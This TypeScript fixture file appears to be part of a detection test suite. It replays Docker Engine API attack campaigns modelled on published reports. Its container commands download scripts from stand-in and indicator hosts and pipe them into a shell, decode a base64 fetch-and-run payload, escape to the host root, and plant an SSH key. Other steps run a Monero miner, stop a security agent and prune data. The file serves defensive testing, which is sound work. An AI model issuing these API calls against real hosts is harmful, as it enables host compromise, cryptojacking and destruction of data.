/**
 * Docker Engine API attack campaigns, each modelled on the sequence of API calls
 * a public report describes (payload details simplified; documentation-range
 * addresses replace live infrastructure unless the report's indicator is cited).
 * A scenario test drives each through a collector against the real dockerd and
 * checks the expected findings. No registry is reachable here, so pulls fail
 * and images that do not exist locally make `create` fail with 404: the audit
 * events still carry every parameter, which is what detection needs.
 */

export interface StepContext {
  /** Ids saved by earlier steps (`save`). */
  ids: Record<string, string>;
}

export interface CampaignStep {
  method: string;
  /** May contain `{ctr}`-style placeholders filled from saved ids. */
  path: string;
  body?: unknown;
  /** Save the `Id` of the JSON answer under this name. */
  save?: string;
}

export interface Campaign {
  id: string;
  title: string;
  references: string[];
  /** The attacker's client: a distinct loopback source address through the proxy. */
  client: { localAddress: string; userAgent: string };
  steps: CampaignStep[];
  /** Rule ids (Sigma id or baseline id) that must raise at least one finding. */
  expectedRules: string[];
}

const DOCKER_UA = 'Docker-Client/19.03.12 (linux)';
const GO_UA = 'Go-http-client/1.1';

export const CAMPAIGNS: Campaign[] = [
  {
    id: 'seed-xmrig-chroot',
    title: 'The seed article: pull alpine, create a container that chroots into the host root and runs curl | bash',
    references: ['../shared/seed/docker-api-abuse-article.txt'],
    client: { localAddress: '127.0.0.66', userAgent: GO_UA },
    steps: [
      { method: 'POST', path: '/v1.41/images/create?fromImage=alpine&tag=latest' },
      {
        method: 'POST',
        path: '/v1.41/containers/create',
        body: {
          Image: 'alpine',
          Cmd: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://198.51.100.23/m.sh | bash'],
          HostConfig: { Binds: ['/:/mnt'], NetworkMode: 'none' },
        },
        save: 'ctr',
      },
      { method: 'POST', path: '/v1.41/containers/{ctr}/start' },
    ],
    expectedRules: [],
  },
  {
    id: 'teamtnt-ssh-key-implant',
    title: 'TeamTNT: probe the API, run a privileged container with the host root mounted and plant an SSH key',
    references: ['https://attack.mitre.org/groups/G0139/', 'https://attack.mitre.org/techniques/T1098/004/'],
    client: { localAddress: '127.0.0.67', userAgent: DOCKER_UA },
    steps: [
      { method: 'GET', path: '/version' },
      { method: 'GET', path: '/info' },
      { method: 'GET', path: '/containers/json?all=1' },
      { method: 'POST', path: '/images/create?fromImage=alpineos%2Fdockerapi&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'alpine',
          Cmd: [
            'chroot',
            '/host',
            'sh',
            '-c',
            'mkdir -p /root/.ssh && echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0tnt attacker >> /root/.ssh/authorized_keys',
          ],
          HostConfig: { Binds: ['/:/host'], Privileged: true, NetworkMode: 'none' },
        },
        save: 'ctr',
      },
    ],
    expectedRules: [],
  },
  {
    id: 'kinsing-ubuntu-wget-sh',
    title: 'Kinsing: an Ubuntu container that installs cron and pipes a downloaded script into sh',
    references: ['https://blog.aquasec.com/threat-alert-kinsing-malware-container-vulnerability'],
    client: { localAddress: '127.0.0.68', userAgent: GO_UA },
    steps: [
      { method: 'POST', path: '/images/create?fromImage=ubuntu&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'ubuntu:latest',
          Cmd: [
            '/bin/bash',
            '-c',
            'apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - 142.44.191.122/d.sh | sh;tail -f /dev/null',
          ],
        },
      },
    ],
    expectedRules: [],
  },
  {
    id: 'commando-cat-base64',
    title: 'Commando Cat: cmd.cat images, the host root bind-mounted and a base64-encoded payload run through chroot',
    references: [
      'https://www.cadosecurity.com/blog/commando-cat-a-novel-cryptojacking-attack-targeting-docker-api-endpoints',
    ],
    client: { localAddress: '127.0.0.69', userAgent: GO_UA },
    steps: [
      { method: 'GET', path: '/_ping' },
      { method: 'POST', path: '/images/create?fromImage=cmd.cat%2Fchattr&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'cmd.cat/chattr',
          Cmd: [
            'chroot',
            '/mnt',
            'sh',
            '-c',
            'echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L2Iuc2ggfCBzaA== | base64 -d | sh',
          ],
          HostConfig: { Binds: ['/:/mnt'], Privileged: true },
        },
      },
    ],
    expectedRules: [],
  },
  {
    id: 'graboid-worm',
    title: 'Graboid: a worm pulls its docker-client image and runs a miner image from Docker Hub',
    references: [
      'https://unit42.paloaltonetworks.com/graboid-first-ever-cryptojacking-worm-found-in-images-on-docker-hub/',
    ],
    client: { localAddress: '127.0.0.70', userAgent: DOCKER_UA },
    steps: [
      { method: 'POST', path: '/images/create?fromImage=pocosow%2Fcentos&tag=7.6.1810' },
      { method: 'POST', path: '/containers/create', body: { Image: 'pocosow/centos:7.6.1810' } },
      { method: 'POST', path: '/images/create?fromImage=gakeaws%2Fnginx&tag=8.9' },
      { method: 'POST', path: '/containers/create', body: { Image: 'gakeaws/nginx:8.9' } },
    ],
    expectedRules: [],
  },
  {
    id: 'doki-ngrok',
    title:
      'Doki: an alpine container with the host root under /tmp, chroot into it and fetch a payload from an ngrok URL',
    references: [
      'https://www.intezer.com/blog/research/watch-your-containers-doki-infecting-docker-servers-in-the-cloud/',
    ],
    client: { localAddress: '127.0.0.71', userAgent: GO_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'alpine:latest',
          Cmd: [
            'chroot',
            '/tmp',
            'sh',
            '-c',
            'curl --retry 3 -m 60 -o /tmp/x http://7f3a9c.ngrok.io/x && chmod +x /tmp/x && /tmp/x',
          ],
          HostConfig: { Binds: ['/:/tmp'], NetworkMode: 'none' },
        },
        save: 'ctr',
      },
      { method: 'POST', path: '/containers/{ctr}/start' },
    ],
    expectedRules: [],
  },
  {
    id: 'cetus-masscan',
    title: 'Cetus: an Ubuntu container installs masscan and docker to spread, with a miner disguised as docker-cache',
    references: ['https://unit42.paloaltonetworks.com/cetus-cryptojacking-worm/'],
    client: { localAddress: '127.0.0.72', userAgent: DOCKER_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'ubuntu:18.04',
          Cmd: [
            'bash',
            '-c',
            'apt-get update && apt-get install -y masscan docker.io && wget -O /usr/bin/docker-cache http://198.51.100.40/portainer && chmod +x /usr/bin/docker-cache && /usr/bin/docker-cache -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1',
          ],
        },
      },
    ],
    expectedRules: [],
  },
  {
    id: 'xmrig-miner-image',
    title: 'Cryptojacking from a public miner image with pool flags and restart policy always',
    references: ['https://attack.mitre.org/techniques/T1496/'],
    client: { localAddress: '127.0.0.73', userAgent: GO_UA },
    steps: [
      { method: 'POST', path: '/images/create?fromImage=metal3d%2Fxmrig&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create?name=systemd-journal',
        body: {
          Image: 'metal3d/xmrig:latest',
          Cmd: ['xmrig', '-o', 'stratum+tcp://xmr.pool.example:443', '-u', '4AbCd', '--cpu-max-threads-hint', '90'],
          HostConfig: { RestartPolicy: { Name: 'always' } },
        },
      },
    ],
    expectedRules: [],
  },
  {
    id: 'lateral-discovery-exec',
    title: 'Lateral movement inside the data centre: discovery burst, container inspect for secrets, interactive exec',
    references: ['https://attack.mitre.org/techniques/T1613/', 'https://attack.mitre.org/techniques/T1552/007/'],
    client: { localAddress: '127.0.0.74', userAgent: DOCKER_UA },
    steps: [
      { method: 'GET', path: '/info' },
      { method: 'GET', path: '/version' },
      { method: 'GET', path: '/containers/json?all=1' },
      { method: 'GET', path: '/images/json' },
      { method: 'GET', path: '/networks' },
      { method: 'GET', path: '/volumes' },
      {
        method: 'POST',
        path: '/containers/create?name=victim-app',
        body: { Image: 'alpine', Cmd: ['sleep', '300'], HostConfig: { NetworkMode: 'none' } },
        save: 'ctr',
      },
      { method: 'POST', path: '/containers/{ctr}/start' },
      { method: 'GET', path: '/containers/{ctr}/json' },
      {
        method: 'POST',
        path: '/containers/{ctr}/exec',
        body: { Cmd: ['/bin/sh'], AttachStdin: true, AttachStdout: true, AttachStderr: true, Tty: true, User: 'root' },
        save: 'exec',
      },
    ],
    expectedRules: [],
  },
  {
    id: 'evasion-and-destruction',
    title: 'Defence evasion and destruction: stop the security agent, then prune and force-remove containers',
    references: ['https://attack.mitre.org/techniques/T1562/001/', 'https://attack.mitre.org/techniques/T1485/'],
    client: { localAddress: '127.0.0.75', userAgent: GO_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create?name=falco',
        body: { Image: 'alpine', Cmd: ['sleep', '300'], HostConfig: { NetworkMode: 'none' } },
        save: 'agent',
      },
      { method: 'POST', path: '/containers/{agent}/start' },
      { method: 'POST', path: '/containers/falco/stop?t=0' },
      { method: 'DELETE', path: '/containers/falco?force=1' },
      { method: 'POST', path: '/containers/prune' },
      { method: 'POST', path: '/volumes/prune' },
      { method: 'POST', path: '/images/prune?filters=%7B%22dangling%22%3A%5B%22false%22%5D%7D' },
    ],
    expectedRules: [],
  },
  {
    id: 'image-implant',
    title: 'Implant an internal image: commit a tampered container, push it, build from a remote context',
    references: ['https://attack.mitre.org/techniques/T1525/'],
    client: { localAddress: '127.0.0.76', userAgent: DOCKER_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create',
        body: { Image: 'alpine', Cmd: ['sh', '-c', 'echo implanted > /etc/motd'], HostConfig: { NetworkMode: 'none' } },
        save: 'ctr',
      },
      { method: 'POST', path: '/commit?container={ctr}&repo=registry.internal.example%2Fbase%2Falpine&tag=latest' },
      { method: 'POST', path: '/images/registry.internal.example%2Fbase%2Falpine/push?tag=latest' },
      { method: 'POST', path: '/build?remote=http%3A%2F%2F198.51.100.50%2Fctx.tar.gz&t=base%2Fapp%3Alatest' },
    ],
    expectedRules: [],
  },
];
